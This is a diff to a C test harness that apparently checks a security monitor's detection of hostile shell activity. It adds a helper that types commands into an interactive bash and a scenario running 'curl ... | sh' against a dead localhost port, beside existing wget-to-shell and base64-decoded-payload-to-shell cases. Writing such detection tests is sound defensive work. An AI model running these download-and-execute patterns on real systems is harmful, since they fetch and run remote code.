@@ -91,6 +91,11 @@ static const char LIB[] =
 	"	i=0; while [ \"$(readlink /proc/$1/exe)\" != \"$2\" ] && [ $i -lt 100 ]; do\n"
 	"		sleep 0.05; i=$((i + 1)); done\n"
 	"}\n"
+	"# typed LINE: LINE typed into an interactive bash on a pty (script gives it one)\n"
+	"typed() {\n"
+	"	printf '%s\\nexit\\n' \"$1\" |\n"
+	"		script -qec 'bash --norc --noprofile -i' /dev/null >/dev/null 2>&1\n"
+	"}\n"
 	"# sysctl_rewrite FILE: write a kernel setting's current value back\n"
 	"sysctl_rewrite() { v=$(cat \"$1\") && printf '%s\\n' \"$v\" > \"$1\"; }\n";
 
@@ -385,6 +390,9 @@ static const struct scenario scenarios[] = {
 	{ "download-piped-to-shell",
 	  "sh -c 'wget -q -O- http://127.0.0.1:1/x 2>/dev/null | sh'",
 	  "sh -c 'wget --version | head -1 >/dev/null' && run_as /usr/bin/dpkg \"sh -c 'wget -q -O- http://127.0.0.1:1/x 2>/dev/null | sh'\"", "wget" },
+	{ "typed-download-piped-to-shell",
+	  "typed 'curl -s http://127.0.0.1:1/x | sh'",
+	  "typed 'curl --version | head -1 >/dev/null' && sh -c 'curl -s http://127.0.0.1:1/x | cat'", "curl script bash" },
 	{ "decoded-payload-piped-to-shell",
 	  "sh -c 'echo dHJ1ZQo= | base64 -d | sh'",
 	  "sh -c 'echo dHJ1ZQo= | base64 -d > /dev/null' && sh -c 'echo true | sh' && echo x | gzip | gzip -d >/dev/null", NULL },
